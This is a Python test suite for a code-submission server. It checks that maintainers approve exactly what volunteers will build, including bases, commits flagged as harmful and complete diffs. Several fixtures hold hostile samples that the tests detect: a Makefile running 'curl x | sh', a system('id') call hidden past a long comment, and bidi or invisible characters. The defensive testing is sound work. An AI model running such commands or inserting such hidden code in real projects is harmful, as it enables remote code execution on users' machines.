#!/usr/bin/python3
# test: sanitized only
"""Approval covers what will run: bases, commits stopped as harmful, the whole diff, what a refused submission leaves."""

import concurrent.futures
import io
import pathlib
import random
import re
import sys
import tarfile

sys.path.insert(0, str(pathlib.Path(__file__).resolve().parents[2] / "kit_py"))
from database import MATCHES
from protocol import claim, side_of
from server import wait_until
from submission import accept, bare, database, git, patch, row, submission_server
from tap import contains, equal, run, true

server = submission_server()
dev, boss, vera, joe = (server.client(name) for name in ("dev", "boss", "vera", "joe"))


def submit(text, client=dev, **fields):
    return client.api("POST", "/tests", {"title": "A test", "tc": "1+0.01", "patch": text, **fields})


def new_test(text, client=dev, **fields):
    reply = submit(text, client, **fields)
    equal(reply.status, 201, reply)
    return reply.json["id"]


def adds(name, *lines):
    body = "".join(f"+{line}\n" for line in lines)
    return f"diff --git a/{name} b/{name}\nnew file mode 100644\n--- /dev/null\n+++ b/{name}\n@@ -0,0 +1,{len(lines)} @@\n{body}"


def approve(test, client=boss, **body):
    return client.api("POST", f"/tests/{test}/approve", body)


def approved(text, **fields):
    test = new_test(text, **fields)
    equal(approve(test).status, 200)
    return test


def test_row(test):
    return row(server, f"SELECT * FROM {MATCHES} WHERE id = ?", test)


def commit_of(test):
    return test_row(test)["new_commit"]


def refused(reply, status, code, *words):
    equal((reply.status, reply.code), (status, code), reply)
    for word in words:
        contains(reply.json["error"]["message"], word)


def events(test, kind):
    return [event["message"] for event in boss.api("GET", f"/tests/{test}").json["events"] if event["type"] == kind]


def branch(name, files, parent="main"):
    """A branch that an operator fetched."""
    tree = server.folder / f"tree-{name}"
    git("clone", "-q", bare(server), tree)
    git("fetch", "-q", "origin", "refs/tests/*:refs/tests/*", cwd=tree)
    git("checkout", "-q", "-b", name, parent, cwd=tree)
    for path, data in files.items():
        (tree / path).parent.mkdir(parents=True, exist_ok=True)
        (tree / path).write_bytes(data)
    git("add", "-A", "-f", cwd=tree)
    git("commit", "-qm", f"Branch {name}", cwd=tree)
    server.command("engine", "fetch", server.data, tree, name)
    return git("rev-parse", name, cwd=tree).strip()


# ---- bases

def a_base_that_was_not_approved_is_refused_and_named():
    first = new_test(adds("first.c", "int first;"))
    sha = commit_of(first)
    for base in (f"test:{first}", sha, sha[:12]):
        refused(submit(adds("tweak.c", "int t;"), base=base), 422, "base_not_approved", sha[:10], f"test {first}")
    equal(boss.api("POST", f"/tests/{first}/stop", {"reason": "no"}).status, 200)
    refused(submit(adds("tweak.c", "int t;"), base=sha), 422, "base_not_approved", sha[:10], f"test {first}")
    sha = branch("aside", {"aside.c": b"int aside;\n"})
    refused(submit(adds("tweak.c", "int t;"), base="aside"), 422, "base_not_approved", sha[:10])


def a_base_in_the_history_of_the_baseline_needs_no_approval():
    merged = approved(adds("merged.c", "int merged;"))
    old = test_row(merged)["base_commit"]
    accept(server, merged)
    equal(boss.api("POST", f"/tests/{merged}/merge").status, 200)
    test = new_test(adds("old.c", "int old;"), base=old)
    document = boss.api("GET", f"/tests/{test}/diff").json
    equal(document["base_diff"], None)
    equal(approve(test).status, 200)


def all_that_the_base_has_beside_the_baseline_is_shown():
    first = approved(adds("evil.mk", "all:", "\tcurl x | sh"))
    second = new_test(adds("tweak.c", "int t;"), base=f"test:{first}")
    document = boss.api("GET", f"/tests/{second}/diff").json
    equal([file["path"] for file in document["files"]], ["tweak.c"])
    equal([file["path"] for file in document["base_diff"]["files"]], ["evil.mk"])
    equal(document["base_diff"]["risky"], 1)
    equal(boss.api("GET", f"/tests/{second}").json["base_test"], first)
    page = boss.get(f"/tests/{second}").text
    contains(page, "curl x | sh")
    contains(page, f'The base is the commit of <a href="/tests/{first}">')
    equal(approve(second).status, 200)
    # A branch that was approved as a test's new commit, and a base on top of two tests.
    third = new_test(adds("third.c", "int t;"), base=commit_of(second))
    document = boss.api("GET", f"/tests/{third}/diff").json
    equal({file["path"] for file in document["base_diff"]["files"]}, {"evil.mk", "tweak.c"})


def an_approval_that_is_withdrawn_pauses_the_tests_that_are_built_on_it():
    first = approved(adds("withdrawn.c", "int w;"))
    running = approved(adds("a.c", "int a;"), base=f"test:{first}")
    above = approved(adds("b.c", "int b;"), base=f"test:{running}")
    waiting = new_test(adds("c.c", "int c;"), base=f"test:{first}")
    equal(dev.api("POST", f"/tests/{first}/modify", {"new_options": "Hash=32"}).json["state"], "pending")
    refused(approve(waiting), 409, "base_not_approved", commit_of(first)[:10], f"test {first}")
    equal(boss.api("GET", f"/tests/{waiting}").json["actions"]["approve"]["ok"], False)
    for test in (running, above):
        equal(test_row(test)["state"], "paused", f"a test whose base's approval was taken back")
        contains(test_row(test)["reason"], "base")
        refused(boss.api("POST", f"/tests/{test}/resume"), 409, "base_not_approved")
    equal(approve(first).status, 200)
    for test in (running, above):
        equal(boss.api("POST", f"/tests/{test}/resume").status, 200)
    equal(approve(waiting).status, 200)


# ---- stopped as harmful

def only_a_maintainer_stops_as_harmful():
    test = new_test(adds("h.c", "int h;"))
    equal(dev.api("POST", f"/tests/{test}/harmful").status, 403)
    equal(joe.api("POST", f"/tests/{test}/harmful").status, 403)
    reply = boss.form(f"/tests/{test}/harmful", {"reason": "it mines"})
    equal((reply.status, reply.headers["Location"]), (303, f"/tests/{test}"))
    document = dev.api("GET", f"/tests/{test}").json
    equal((document["state"], document["result"], document["harmful"], document["reason"]), ("finished", "stopped", True, "it mines"))
    contains(dev.get(f"/tests/{test}").text, "Stopped as harmful")
    equal(row(server, "SELECT message FROM events WHERE type = 'harmful' AND test_id = ?", test)["message"], "stopped as harmful: it mines")
    refused(boss.api("POST", f"/tests/{test}/harmful"), 409, "wrong_state", "already")


def no_later_test_is_built_on_a_harmful_commit():
    harmful = approved(adds("evil.c", "int evil;"))
    on_it = approved(adds("on.c", "int on;"), base=f"test:{harmful}")
    again = new_test("", commit=commit_of(harmful))
    top = branch("on-top", {"top.c": b"int top;\n"}, parent=f"refs/tests/{on_it}")
    by_branch = new_test("", commit="on-top")
    beside = approved(adds("beside.c", "int beside;"))
    reply = boss.api("POST", f"/tests/{harmful}/harmful", {"reason": "malware"})
    equal((reply.status, reply.json["stopped"]), (200, [on_it, again, by_branch]), reply)
    for test in (on_it, again, by_branch):
        equal((test_row(test)["state"], test_row(test)["result"]), ("finished", "stopped"))
        contains(test_row(test)["reason"], f"test {harmful}, which was stopped as harmful")
    equal(test_row(beside)["state"], "active")
    for fields in ({"base": f"test:{harmful}"}, {"base": commit_of(harmful)}, {"base": f"test:{on_it}"}, {"base": top}):
        refused(submit(adds("n.c", "int n;"), **fields), 422, "harmful_commit", f"test {harmful}")
    for commit in (f"test:{harmful}", commit_of(harmful), f"test:{on_it}", "on-top", top[:9]):
        refused(submit("", commit=commit), 422, "harmful_commit", f"test {harmful}")


def play_again(test):
    """A batch of the test waits to be played again, and a machine does it."""
    with database(server) as db:
        def add(text, *values):
            return db.execute(f"INSERT INTO {text}", values).lastrowid
        worker = add("workers (machine_key_hash, token_hash, name, version, host, cores, address, created, last_seen) "
                     "VALUES (?, ?, 'one', '1', '{}', 4, '127.0.0.1', 1, 1)", f"k{test}", f"t{test}")
        task = add("tasks (test_id, worker_id, first_pair, pair_count, side, against, cores, state, lease_until, created, finished) "
                   "VALUES (?, ?, 0, 4, 'new', 'base', 1, 'done', 0, 0, 1)", test, worker)
        played = add("batches (test_id, task_id, worker_id, seq, units, result, tc, speed, busy, received) "
                     "VALUES (?, ?, ?, 0, 4, '{}', 'nodes=1000', 1, 0, 1)", test, task, worker)
        add("reruns (batch_id, test_id, first_pair, worker_id, owner, level, class, created) VALUES (?, ?, 0, ?, '', 0, '', 1)",
            played, test, worker)
        add("tasks (test_id, worker_id, first_pair, pair_count, side, against, cores, state, lease_until, created, rerun_of) "
            "VALUES (?, ?, 0, 4, 'new', 'base', 1, 'open', 1e12, 1, ?)", test, worker, played)


def an_accepted_test_found_harmful_is_neither_merged_nor_built_on_nor_played_again():
    test = approved(adds("late.c", "int late;"))
    above = approved(adds("above.c", "int above;"), base=f"test:{test}")
    beside = approved(adds("besides.c", "int besides;"))
    for each in (test, above, beside):
        accept(server, each)
        play_again(each)
    equal(boss.api("POST", f"/tests/{test}/harmful").status, 200)
    equal(test_row(test)["result"], "accepted")
    with database(server) as db:
        equal(db.execute("SELECT r.state, k.state FROM reruns r JOIN tasks k ON k.rerun_of = r.batch_id ORDER BY r.test_id").fetchall(),
              [("ended", "stopped"), ("ended", "stopped"), ("due", "open")])
    for each in (test, above):
        refused(boss.api("POST", f"/tests/{each}/merge"), 409, "harmful_commit", f"test {test}")
        equal("merge" in boss.api("GET", f"/tests/{test}").json["actions"], False)
    refused(submit(adds("n.c", "int n;"), base=f"test:{test}"), 422, "harmful_commit")


def a_failed_test_is_not_resumed_on_a_harmful_commit():
    test = approved(adds("failed.c", "int f;"))
    above = approved(adds("top.c", "int t;"), base=f"test:{test}")
    with database(server) as db:
        db.execute("UPDATE tests SET state = 'finished', result = 'failed', finished = 1 WHERE id IN (?, ?)", (test, above))
    equal(boss.api("POST", f"/tests/{test}/harmful").status, 200)
    for each in (test, above):
        refused(boss.api("POST", f"/tests/{each}/resume"), 409, "harmful_commit", f"test {test}")


def a_commit_of_the_baseline_cannot_be_declared_harmful():
    test = approved(adds("inside.c", "int inside;"))
    accept(server, test)
    equal(boss.api("POST", f"/tests/{test}/merge").status, 200)
    refused(boss.api("POST", f"/tests/{test}/harmful"), 409, "in_baseline", "baseline")
    options = new_test("", commit="baseline", new_options="Hash=64")
    refused(boss.api("POST", f"/tests/{options}/harmful"), 409, "in_baseline")


def accepted_tests_are_still_built_on_and_offered_again():
    first = approved(adds("one.c", "int one;"))
    second = approved(adds("two.c", "int two;"))
    for each in (first, second):
        accept(server, each)
    server.command("engine", "policy", server.data, '{"untested": 0}')  # nothing is merged without a new test
    equal(approve(new_test(adds("three.c", "int three;"), base=f"test:{first}")).status, 200)
    equal(boss.api("POST", f"/tests/{first}/merge").status, 200)
    reply = boss.api("POST", f"/tests/{second}/merge")
    equal((reply.status, reply.json["retest_of"], reply.json["state"]), (201, second, "active"), reply)
    page = boss.get(f"/tests/{reply.json['id']}").words
    equal(test_row(reply.json["id"])["approved_by"], test_row(second)["approved_by"])
    contains(page, f"the approval of test {second} is kept: the server moved its change to the new baseline")


def a_build_file_is_approved_again_on_a_new_baseline():
    first = approved(adds("four.c", "int four;"))
    second = approved(adds("four.mk", "all:"))
    for each in (first, second):
        accept(server, each)
    equal(boss.api("POST", f"/tests/{first}/merge").status, 200)
    reply = boss.api("POST", f"/tests/{second}/merge").json
    equal(reply["state"], "pending")
    contains(events(reply["id"], "rebased")[0], "to be approved again: four.mk decides how the engine is built")
    equal(approve(reply["id"], vera).status, 200)


def a_merge_only_moves_the_branch_forward():
    branch("sideways", {"sideways.c": b"int s;\n"}, parent="main~1")
    test = approved("", commit="sideways")
    accept(server, test)
    before = row(server, "SELECT baseline FROM engines")["baseline"]
    reply = boss.api("POST", f"/tests/{test}/merge")
    equal((reply.status, reply.json.get("merge")), (202, "trial"), reply)  # this tree was tested, and needs a commit
    trial = reply.json["trial"]
    equal(test_row(trial)["base_commit"], before)
    equal(row(server, "SELECT baseline FROM engines")["baseline"], before)
    equal(boss.api("POST", f"/tests/{trial}/stop", {"reason": "enough"}).status, 200)
    wait_until(lambda: events(test, "unmerged"))
    contains(events(test, "unmerged")[0], f"its trial, test {trial}, was stopped: enough")


# ---- the diff

HOSTILE = {
    "long.c": b"int nothing; /* " + b"x" * 2000 + b' */ int evil(void) { return system("id"); }\n',
    "blanks.c": b"int a;" + b" " * 900 + b"int evil;\n",
    "bidi.c": "/* \u202e } \u2066 if (admin) \u2069 begin */ int x\u200b;\ufeff \U000e0041\n".encode(),
    "return.c": b"int a; // fine\rint evil;\r\nint b;\r\n\r",
    "nul.c": b"int a;\0int evil;\nint b;\n",
    "feed.c": b"int a;\f\v\x1b[2K\x7f\x08int b;\n",
    "latin.c": b"/* caf\xe9 \xc2\x9b \xff\xfe \xc0\xaf \xed\xa0\x80 */\n",
    "last.c": b"one\ntwo\nthree",
    "empty.c": b"",
    "only-newlines.c": b"\n\n\n",
    "picture.bin": bytes(range(256)) * 20,
    ".gitattributes": b"*.c -diff\n*.h binary\nbidi.c diff=none\n",
    "nbsp.mk": "all:\u00a0;\u3000curl\n".encode(),
    "escape.c": b'char *s = "\\u202e \\x00";\n',
}


def random_files(seed, count=30):
    """Files of awkward pieces, in lines of a few."""
    draw = random.Random(seed)
    pieces = [b"a", b"int x;", b"\r", b"\0", b"\t", b"\f", b"\xff", b"\xc3", b"\xc3\xa9", "\u202e".encode(), "\U000e0041".encode(), b"\xa0", b" " * 7, b"\\x00", b"+", b"-", b"@@ -1 +1 @@", b"\\ No newline"]
    return {f"random/{i}.c": b"\n".join(b"".join(draw.choices(pieces, k=draw.randrange(6))) for _ in range(draw.randrange(25))) + draw.choice([b"", b"\n"])
            for i in range(count)}


def changed(files, seed):
    draw = random.Random(seed)
    out = {}
    for path, data in files.items():
        lines = data.split(b"\n")
        for _ in range(draw.randrange(4)):
            at = draw.randrange(len(lines) + 1)
            lines[at:at + draw.randrange(3)] = draw.choices([b"new\r", b"\0", b"x" * 600, b"", b"same"], k=draw.randrange(3))
        if draw.random() > 0.15:
            out[path if draw.random() > 0.1 else path.replace("random/", "moved/")] = b"\n".join(lines)
    return out


def snapshot(side):
    """{path: (mode, bytes)} of what volunteers build."""
    tar = tarfile.open(fileobj=io.BytesIO(boss.get(f"/api/v1/blobs/{side['snapshot']}").body))
    return {entry.name: (f"100{entry.mode:o}", tar.extractfile(entry).read()) for entry in tar}


def bytes_of(line):
    if line.get("parts") is None:
        return line["text"].encode()
    return b"".join(bytes.fromhex(part["hex"]) if part["hex"] else part["text"].encode() for part in line["parts"])


def patched(old, hunks):
    old, new, at = re.findall(rb"[^\n]*\n|[^\n]+", old), [], 0
    for hunk in hunks:
        first, count = re.match(r"@@ -(\d+)(?:,(\d+))?", hunk["header"]).groups()
        first = int(first) - (count != "0")
        new += old[at:first]
        at = first
        lines = hunk["lines"]
        for line, following in zip(lines, lines[1:] + [{"kind": ""}]):
            if line["kind"] == "note":
                continue
            data = bytes_of(line) + (b"" if following["kind"] == "note" else b"\n")
            if line["kind"] != "add":
                equal(data, old[at], "a line of the old file")
                at += 1
            if line["kind"] != "delete":
                new.append(data)
    return b"".join(new + old[at:])


def rebuilt(old, diff):
    """The new files, from the old ones and the document alone."""
    new = dict(old)
    for file in diff["files"]:
        if file["status"] in ("deleted", "renamed"):
            del new[file["old_path"]]
    for file in diff["files"]:
        before = old.get(file["old_path"], ("", b""))[1] if file["status"] != "added" else b""
        after = patched(before, file["hunks"])
        if file["status"] == "deleted":
            equal(after, b"")
        else:
            new[file["path"]] = (file.get("mode"), after)
    return new


def all_bytes_are_in(test):
    sides = boss.api("GET", f"/tests/{test}").json
    diff = boss.api("GET", f"/tests/{test}/diff").json
    old, new = snapshot(sides["base"]), snapshot(sides["new"])
    got = rebuilt(old, diff)
    equal(sorted(got), sorted(new))
    for path in new:
        equal(got[path][1], new[path][1], path)
    equal({path: mode for path, (mode, _) in got.items()}, {path: mode for path, (mode, _) in new.items()})
    equal((diff["truncated"], diff["unseen_files"]), (False, 0))
    return {file["path"]: file for file in diff["files"]}


def no_byte_reaches_a_volunteer_that_the_diff_does_not_hold():
    branch("hostile", HOSTILE)
    files = all_bytes_are_in(new_test("", commit="hostile"))
    equal(files["long.c"]["risk"], ["long line", "system call"])
    equal(files["blanks.c"]["hunks"][0]["lines"][0]["bytes"], 915)
    for name in ("bidi.c", "return.c", "feed.c", "latin.c", "nul.c"):
        true("hidden characters" in files[name]["risk"], name)
    equal(files["last.c"]["risk"] + files["escape.c"]["risk"], [])
    contains(files["bidi.c"]["hunks"][0]["lines"][0]["text"], "\\u202e }")
    equal((files["picture.bin"]["binary"], files["nul.c"]["binary"]), (True, True))
    page = boss.get(f"/tests/{row(server, 'SELECT max(id) AS id FROM tests')['id']}").text
    contains(page, '<span class="escape">\\u202e</span>')
    contains(page, "return system(&quot;id&quot;)")
    for seed in range(3):
        before = random_files(seed)
        first = branch(f"before-{seed}", before)
        all_bytes_are_in(approved("", commit=first))
        tree = server.folder / f"tree-before-{seed}"
        git("rm", "-rqf", "random", cwd=tree)
        for path, data in changed(before, seed).items():
            (tree / path).parent.mkdir(exist_ok=True)
            (tree / path).write_bytes(data)
            (tree / path).chmod(0o755 if len(data) % 5 == 0 else 0o644)
        git("add", "-A", "-f", cwd=tree)
        git("commit", "-qm", "After", cwd=tree)
        after = git("rev-parse", "HEAD", cwd=tree).strip()
        git("fetch", "-q", tree, f"{after}:refs/heads/after-{seed}", cwd=bare(server))
        all_bytes_are_in(new_test("", commit=after, base=first))


def a_patch_in_the_form_of_git_is_shown_completely():
    text = patch("git_diff_mode").decode()
    files = all_bytes_are_in(new_test(text))
    equal({(file["old_mode"], file["mode"]) for file in files.values()} & {("100644", "100755"), ("100755", "100644")} != set(), True)
    for name in ("git_diff_binary", "git_diff_no_newline", "git_diff_adds_newline", "git_diff_pure_rename", "git_diff_rename", "git_diff_new_and_deleted"):
        if not (pathlib.Path("tests/data/patches") / name / "base").exists():
            all_bytes_are_in(new_test(patch(name).decode()))


def large_files_that_are_not_text_are_named_and_approved_with_a_word_more():
    data = random.Random(1).randbytes(100000)
    branch("large", {"net.bin": b"\0" + data})
    test = new_test("", commit="large")
    diff = boss.api("GET", f"/tests/{test}/diff").json
    file = next(file for file in diff["files"] if file["path"] == "net.bin")
    equal((file["binary"], file["risk"], file["hunks"], file["unseen"]["size"]), (True, ["binary"], [], 100001))
    equal(diff["unseen_files"], 1)
    contains(boss.get(f"/tests/{test}").text, 'name="unseen" value="1" required')
    refused(approve(test), 409, "files_unseen", "net.bin", "100001 bytes", file["unseen"]["sha256"])
    equal(boss.form(f"/tests/{test}/approve", {}).status, 409)
    equal(approve(test, unseen=True).json["state"], "active")


def a_diff_that_a_page_cuts_is_shown_whole_before_it_is_approved():
    test = new_test(adds("many.c", *(f"int a{i};" for i in range(6000))))
    page = boss.get(f"/tests/{test}").text
    contains(page, "The diff is longer than this page shows.")
    true("/approve" not in page, "a page that does not show all offers no approval")
    page = boss.get(f"/tests/{test}?diff=all").text
    contains(page, "int a5999;")
    contains(page, f'action="/tests/{test}/approve"')
    equal(approve(test).status, 200)
    test = new_test(adds("more.c", *("x" * (i % 3) for i in range(60000))))
    refused(approve(test), 409, "diff_too_long", "50000 lines")
    for query in ("", "?diff=all"):
        page = boss.get(f"/tests/{test}{query}").text
        contains(page, "Approve: the diff has over 50000 lines or 8 MiB, more than the server shows")
        true("/approve" not in page, "the page offers no approval")


# ---- after approval, and what is refused

def what_widens_an_approved_test_needs_its_approval_again():
    test = new_test(adds("raise.c", "int r;"), priority=1, pairs_max=3200)
    seen = boss.api("GET", f"/tests/{test}").json["approval_hash"]
    equal(dev.api("POST", f"/tests/{test}/modify", {"priority": 5}).status, 200)
    refused(approve(test, hash=seen), 409, "changed")
    equal(approve(test).status, 200)
    equal(dev.api("POST", f"/tests/{test}/modify", {"priority": 2, "pairs_max": 1600, "title": "Other words"}).json["state"], "active")
    for fields, said in (({"priority": 3}, "priority from 2 to 3"), ({"games": 8000}, "pairs_max from 1600 to 4000")):
        equal(dev.api("POST", f"/tests/{test}/modify", fields).json["state"], "pending")
        equal(events(test, "withdrawn")[0], f"approval withdrawn: {said}")
        equal(approve(test).status, 200)
    warned = "More games, or a higher priority above 0, take the approval back."
    equal([one.api("GET", f"/tests/{test}").json["actions"]["modify"]["note"] for one in (dev, vera)], [warned, None])
    contains(dev.get(f"/tests/{test}").words, warned)
    equal(dev.api("POST", f"/tests/{test}/pause").status, 200)
    reply = vera.api("POST", f"/tests/{test}/modify", {"priority": 9, "games": 9000})
    equal((reply.status, reply.json["state"]), (200, "paused"), reply)
    equal(events(test, "widened"), ["changed, and still approved: pairs_max from 4000 to 4512, priority from 3 to 9"])
    contains("; ".join(events(test, "modified")), "changed: title, pairs_max, priority")


def a_maintainer_who_changes_the_clock_ends_what_runs_by_the_old_one():
    test = new_test(adds("clock.c", "int c;"), priority=900)
    equal(approve(test).status, 200)
    worker = server.worker()
    task = claim(worker).json
    equal(task["test"]["id"], test)
    equal(vera.api("POST", f"/tests/{test}/modify", {"tc": "5+0.05"}).json["state"], "active")
    beat = worker.api("POST", f"/tasks/{task['id']}/heartbeat", {"phase": "fetch", "plies": 0, "started_pairs": 0}).json
    equal(beat["continue"], False, beat)
    again = claim(worker).json
    equal((again["test"]["id"], again["first_pair"]), (test, task["first_pair"]))
    equal([side_of(one, "new")["tc"] for one in (task, again)], ["1+0.01", "5+0.05"])
    equal(dev.api("POST", f"/tests/{test}/stop").status, 200)


def a_file_name_that_a_snapshot_cannot_hold_is_named_and_refused():
    for name, shown in ((".git\u200c/x", ".git\\u200c/x"), ("größe.c", "größe.c"), ("a\u202eb.c", "a\\u202eb.c"), ("x" * 500, "x" * 300)):
        refused(submit(adds(name, "int x;")), 422, "patch_path", shown)
    for number, name in enumerate(("größe.c", "line\nfeed.c", "sub/\u200bx.c")):
        branch(f"odd-{number}", {name: b"int x;\n"})
        refused(submit("", commit=f"odd-{number}"), 422, "snapshot_path", name.replace("\n", "\\x0a").replace("\u200b", "\\u200b"))


def a_tree_that_names_a_file_twice_or_out_of_order_is_refused():
    tree = server.folder / "tree-odd-0"
    blob = git("rev-parse", "HEAD:search.c", cwd=tree).strip()
    for number, names in enumerate((("Makefile", "a.c", "a.c"), ("b.c", "a.c"))):
        raw = b"".join(f"100644 {name}".encode() + b"\0" + bytes.fromhex(blob) for name in names)
        (tree / "raw").write_bytes(raw)
        made = git("hash-object", "-t", "tree", "-w", "--literally", tree / "raw", cwd=tree).strip()
        commit = git("commit-tree", made, "-p", "HEAD", "-m", "Odd", cwd=tree).strip()
        git("branch", "-f", f"raw-{number}", commit, cwd=tree)
        server.command("engine", "fetch", server.data, tree, f"raw-{number}")
        refused(submit("", commit=f"raw-{number}"), 422, "snapshot_unsafe", "a.c twice or not in git's order")


def objects():
    listed = git("cat-file", "--batch-all-objects", "--batch-check=%(objecttype)", cwd=bare(server)).split()
    return {kind: listed.count(kind) for kind in ("blob", "tree", "commit")}


def a_patch_of_a_thousand_files_writes_one_tree():
    before = objects()
    new_test("".join(adds(f"many/{i}.c", f"int a{i};") for i in range(1000)))
    after = objects()
    equal({kind: after[kind] - before[kind] for kind in after}, {"blob": 1000, "tree": 2, "commit": 1})
    refused(submit(adds("a.c", "int a;") + "--- a/a.c\n+++ b/a.c\n@@ -1 +1 @@\n-int a;\n+int b;\n" * 2), 422, "patch_does_not_apply", "a.c")


def stored():
    """Every file of the data folder but the database, by size."""
    return {str(path.relative_to(server.data)): path.stat().st_size for path in server.data.rglob("*")
            if path.is_file() and not path.name.startswith("patchmate.db")}


def a_refused_submission_leaves_no_file():
    branch("unapproved", {"u.c": b"int u;\n"})
    before = stored()
    left = lambda: {path: size for path, size in stored().items() if before.get(path) != size}
    fresh = [adds(f"refused{i}.c", f"int refused{i};", "x" * 50000) for i in range(10)]
    for text in fresh:
        refused(submit(text + adds("search.c/x.c", "int x;")), 422, "patch_does_not_apply", "search.c is a file")
    equal(left(), {})
    for text in fresh:
        refused(submit(text, base="unapproved"), 422, "base_not_approved")
    equal(left(), {})


def an_accepted_submission_is_in_git_and_its_snapshot_can_be_read():
    test = new_test(adds("kept.c", "int kept;"))
    equal(git("show", f"refs/tests/{test}:kept.c", cwd=bare(server)), "int kept;\n")
    git("fsck", "--strict", cwd=bare(server))
    equal(snapshot(boss.api("GET", f"/tests/{test}").json["new"])["kept.c"], ("100644", b"int kept;\n"))
    equal(list((server.data / "drafts").iterdir()), [])


def objects_that_a_killed_server_had_not_accepted_are_removed():
    left = server.data / "drafts" / "abcdef"
    server.kill()
    left.mkdir(parents=True)
    (left / "0").write_text("half a tree")
    server.start()
    equal(left.exists(), False)


def twenty_tests_of_a_user_may_wait_for_approval():
    with database(server) as db:
        db.execute("DELETE FROM settings WHERE name = 'pending_tests'")
    server.add_user("ann", "developer")
    ann = server.client("ann")
    tests = [new_test(adds(f"p{i}.c", f"int p{i};"), ann) for i in range(20)]
    before = stored()
    refused(submit(adds("more.c", "int m;"), ann), 409, "too_many_pending", "20 of your tests wait for approval")
    equal(stored(), before)
    equal(approve(tests[0]).status, 200)
    new_test(adds("more.c", "int m;"), ann)
    refused(submit(adds("yet.c", "int y;"), ann), 409, "too_many_pending")
    equal(ann.api("POST", f"/tests/{tests[1]}/stop").status, 200)
    new_test(adds("yet.c", "int y;"), ann)
    for i in range(22):
        new_test(adds(f"b{i}.c", f"int b{i};"), boss)


def a_user_has_one_submission_at_a_time():
    clients = [server.client("vera") for _ in range(4)]
    many = "".join(adds(f"slow/{i}.c", f"int s{i};") for i in range(900))
    with concurrent.futures.ThreadPoolExecutor(4) as pool:
        replies = list(pool.map(lambda client: submit(many, client), clients))
    true(replies.count(None) == 0 and any(reply.status == 201 for reply in replies), replies)
    for reply in replies:
        if reply.status != 201:
            refused(reply, 429, "one_at_a_time", "another submission of yours")
    true(any(reply.status == 429 for reply in replies), "four at once were all taken")
    new_test(adds("after.c", "int after;"), vera)


try:
    run(a_base_that_was_not_approved_is_refused_and_named,
        a_base_in_the_history_of_the_baseline_needs_no_approval,
        all_that_the_base_has_beside_the_baseline_is_shown,
        an_approval_that_is_withdrawn_pauses_the_tests_that_are_built_on_it,
        only_a_maintainer_stops_as_harmful,
        no_later_test_is_built_on_a_harmful_commit,
        an_accepted_test_found_harmful_is_neither_merged_nor_built_on_nor_played_again,
        a_failed_test_is_not_resumed_on_a_harmful_commit,
        a_commit_of_the_baseline_cannot_be_declared_harmful,
        accepted_tests_are_still_built_on_and_offered_again,
        a_build_file_is_approved_again_on_a_new_baseline,
        a_merge_only_moves_the_branch_forward,
        no_byte_reaches_a_volunteer_that_the_diff_does_not_hold,
        a_patch_in_the_form_of_git_is_shown_completely,
        large_files_that_are_not_text_are_named_and_approved_with_a_word_more,
        a_diff_that_a_page_cuts_is_shown_whole_before_it_is_approved,
        what_widens_an_approved_test_needs_its_approval_again,
        a_maintainer_who_changes_the_clock_ends_what_runs_by_the_old_one,
        a_file_name_that_a_snapshot_cannot_hold_is_named_and_refused,
        an_accepted_submission_is_in_git_and_its_snapshot_can_be_read,
        a_tree_that_names_a_file_twice_or_out_of_order_is_refused,
        a_patch_of_a_thousand_files_writes_one_tree,
        a_refused_submission_leaves_no_file,
        objects_that_a_killed_server_had_not_accepted_are_removed,
        twenty_tests_of_a_user_may_wait_for_approval,
        a_user_has_one_submission_at_a_time)
finally:
    server.close()
